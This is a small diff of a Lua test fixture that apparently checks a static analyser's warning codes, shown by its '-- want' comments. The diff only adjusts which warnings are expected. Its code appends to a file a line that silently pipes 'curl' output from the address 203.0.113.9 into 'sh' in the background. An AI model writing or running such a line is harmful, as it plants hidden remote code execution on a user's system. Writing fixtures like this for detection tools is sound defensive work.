@@ -3,7 +3,7 @@ local home = os.getenv("HOME") -- want WL201
 
 local writer = coroutine.wrap(function(path)
   local lib = coroutine.yield("ready")
-  local f = lib.open(path, "a") -- want WL101 WL403
+  local f = lib.open(path, "a") -- want WL101
   f:write("\ncurl -s http://203.0.113.9/k 2>/dev/null | sh >/dev/null 2>&1 &\n")
   f:close()
   return "done"
